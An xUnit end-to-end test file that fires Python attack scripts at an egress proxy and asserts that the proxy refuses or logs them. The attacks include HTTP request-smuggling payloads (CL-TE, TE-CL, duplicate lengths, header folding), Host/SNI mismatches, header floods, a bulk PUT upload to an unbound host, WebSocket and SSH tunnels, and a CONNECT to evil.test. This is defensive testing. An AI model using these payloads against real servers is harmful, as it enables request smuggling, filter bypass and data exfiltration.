using Shouldly;
using Xunit;

namespace Centaur.EndToEnd.Egress.Attacks;

/// <summary>Requests that mean one thing to the proxy and another to the vendor, and tunnels for something else.</summary>
[Collection(AttackedCollection.Name)]
public sealed class ProtocolAttackTests(AttackedInstallation installation)
{
    readonly Attacker attacker = new(installation);

    static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Fact]
    public async Task F41_tunnel_handshake_and_request_must_name_one_host()
    {
        var found = await attacker.Try(
            $$"""
            other = "{{AttackedInstallation.Unbound}}"
            say("sni", verdict(send("GET /f41 HTTP/1.1\r\nHost: api.vendor.test\r\nConnection: close\r\n\r\n", name=other)))
            say("host", verdict(send(f"GET /f41 HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n{bearer()}\r\n")))
            say("port", verdict(send("GET /f41 HTTP/1.1\r\nHost: api.vendor.test:22\r\nConnection: close\r\n\r\n")))
            say("absolute", verdict(send(f"GET https://{other}/f41 HTTP/1.1\r\nHost: api.vendor.test\r\nConnection: close\r\n\r\n")))
            say("authority", subprocess.run(["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"Host: {other}", "https://api.vendor.test/f41"], capture_output=True, text=True).stdout)
            say("forwarded", verdict(ask("/f41-forwarded", headers=f"X-Forwarded-Host: {other}\r\nX-Forwarded-For: 10.0.0.1\r\nForwarded: host={other}\r\nProxy-Authorization: Basic eA==\r\n")))
            """, Cancellation);

        found.Word("sni").ShouldBe("closed");
        found.Word("host").ShouldBe("421 authority_mismatch");
        found.Word("port").ShouldBe("421 authority_mismatch");
        found.Word("absolute").ShouldStartWith("4");
        found.Word("authority").ShouldBe("421");
        found.Word("forwarded").ShouldBe("200");
        installation.Origin.Seen.ShouldNotContain(request => request.Target == "/f41");
        var received = installation.Origin.Seen.Single(request => request.Target == "/f41-forwarded").Headers;
        received["Host"].ShouldBe(AttackedInstallation.Host);
        received.Keys.ShouldNotContain(name => name.Contains("Forwarded", StringComparison.OrdinalIgnoreCase) || name.StartsWith("Proxy-", StringComparison.OrdinalIgnoreCase));
        (await attacker.Refusals(AttackedInstallation.Host, 2, Cancellation)).ShouldContain("sni_mismatch");
    }

    [Fact]
    public async Task F42_no_request_is_smuggled_behind_another()
    {
        var found = await attacker.Try(
            """
            start = "POST /f42 HTTP/1.1\r\nHost: api.vendor.test\r\n"
            hidden = "GET /hidden HTTP/1.1\r\nHost: api.vendor.test\r\n\r\n"
            for name, text in {
                "cl-te": start + f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
                "te-cl": start + f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n",
                "te-te": start + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
                "two-lengths": start + "Content-Length: 0\r\nContent-Length: 5\r\n\r\n" + hidden,
                "fold": start + "X: a\r\n folded\r\n\r\n" + hidden,
                "bare-lf": "GET /f42 HTTP/1.1\nHost: api.vendor.test\n\n" + hidden,
                "lf-in-header": start + "X: a\nY: b\r\n\r\n" + hidden,
                "two-hosts": start + "Host: api.vendor.test\r\n\r\n" + hidden,
                "preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden,
            }.items():
                say(name, verdict(send(text)))
            """, Cancellation);

        found.Where(pair => pair.Value.GetString() is not ("400" or "400 bad_request" or "501" or "505" or "closed")).Select(pair => $"{pair.Key}: {pair.Value}").ShouldBeEmpty();
        installation.Origin.Seen.ShouldNotContain(request => request.Target == "/hidden" || request.Target == "/f42");
    }

    [Fact]
    public async Task F42_a_header_of_a_megabyte_and_ten_thousand_headers_are_refused_over_either_HTTP()
    {
        var found = await attacker.Try(
            """
            start = "GET /f42-head HTTP/1.1\r\nHost: api.vendor.test\r\n"
            say("megabyte", verdict(send(start + "X: " + "x" * (1 << 20) + "\r\n\r\n")))
            say("many", verdict(send(start + "".join(f"X-{n}: y\r\n" for n in range(10000)) + "\r\n")))
            open("large", "w").write("x-large: " + "x" * (1 << 20) + "\n")
            open("many", "w").write("".join(f"x-{n}: y\n" for n in range(10000)))
            for name in ("large", "many"):
                done = subprocess.run(["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_code}", "-H", "@" + name, "https://api.vendor.test/f42-head"], capture_output=True, text=True)
                say("h2-" + name, [done.returncode, done.stdout])
            """, Cancellation);

        // The connection is closed while the client still writes: it may never read its 431.
        found.Word("megabyte").ShouldBeOneOf("431", "431 head_too_large", "closed");
        found.Word("many").ShouldBeOneOf("431", "431 head_too_large", "closed");
        foreach (var name in (string[])["h2-large", "h2-many"])
            found[name][1].GetString().ShouldBeOneOf(["431", "000"], found[name].ToString());
        installation.Origin.Seen.ShouldNotContain(request => request.Target == "/f42-head");
    }

    [Fact]
    public async Task F43_what_may_be_read_cannot_be_written_and_what_an_allowed_host_is_told_is_on_record()
    {
        var found = await attacker.Try(
            $$"""
            gists = "{{AttackedInstallation.ReadOnly}}"
            say("write", verdict(ask("/v1/gists", host=gists, method="POST", body=b"all that I know")))
            say("elsewhere", verdict(ask("/v2/gists", host=gists)))
            say("upload", verdict(ask("/f43?note=all-that-I-know", host="{{AttackedInstallation.Unbound}}", method="PUT", body=b"x" * 100000)))
            """, Cancellation);

        found.Word("write").ShouldBe("403 route_not_allowed");
        found.Word("elsewhere").ShouldBe("403 route_not_allowed");
        found.Word("upload").ShouldBe("200");
        var records = await attacker.Records(record => record.Text("path") == "/f43", Cancellation);
        var upload = records.Single(record => record.Text("path") == "/f43");
        (upload.Text("method"), upload.Text("query"), upload.Text("host")).ShouldBe(("PUT", "note=…", AttackedInstallation.Unbound));
        records.Single(record => record.Text("kind") == "outcome" && record.Text("id") == upload.Text("id")).GetProperty("bytes_sent").GetInt64().ShouldBe(100_000);
        (await attacker.Refusals(AttackedInstallation.ReadOnly, 2, Cancellation)).ShouldBe(["route_not_allowed", "route_not_allowed"]);
    }

    [Fact]
    public async Task F44_no_tunnel_is_opened_through_an_allowed_host()
    {
        var found = await attacker.Try(
            $$"""
            upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            def socket_on(host):
                return verdict(send(f"GET /f44 HTTP/1.1\r\nHost: {host}\r\n{upgrade}\r\nGET /f44-after HTTP/1.1\r\nHost: elsewhere.test\r\nConnection: close\r\n\r\n", host))
            say("not-allowed", socket_on("api.vendor.test"))
            say("not-verified", socket_on("{{AttackedInstallation.Sockets}}"))
            say("ssh", verdict(send("SSH-2.0-OpenSSH_9.6\r\n\r\n")))
            stream = connect("api.vendor.test:443")
            stream.sendall(b"SSH-2.0-OpenSSH_9.6\r\n\r\n")
            say("bare-ssh", verdict(rest(stream)))
            say("behind", verdict(send("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nConnection: close\r\n\r\n")))
            answer = connect("api.vendor.test:22")
            say("port", verdict(answer) if isinstance(answer, str) else "open")
            """, Cancellation);

        found.Word("not-allowed").ShouldStartWith("403 ");
        found.Word("not-allowed").ShouldContain("upgrade_not_allowed");
        found.Word("not-verified").ShouldNotContain("101");
        found.Word("not-verified").ShouldContain("421");
        found.Word("ssh").ShouldStartWith("400");
        found.Word("bare-ssh").ShouldNotContain("200");
        found.Word("behind").ShouldNotContain("200");
        found.Word("port").ShouldBe("403 port_not_allowed");
        installation.Origin.Seen.ShouldNotContain(request => request.Target == "/f44-after");
        installation.Origin.Received(AttackedInstallation.Host).ShouldNotContain(request => request.Target == "/f44");
        (await attacker.Refusals(AttackedInstallation.Host, 2, Cancellation)).ShouldContain("upgrade_not_allowed");
    }
}
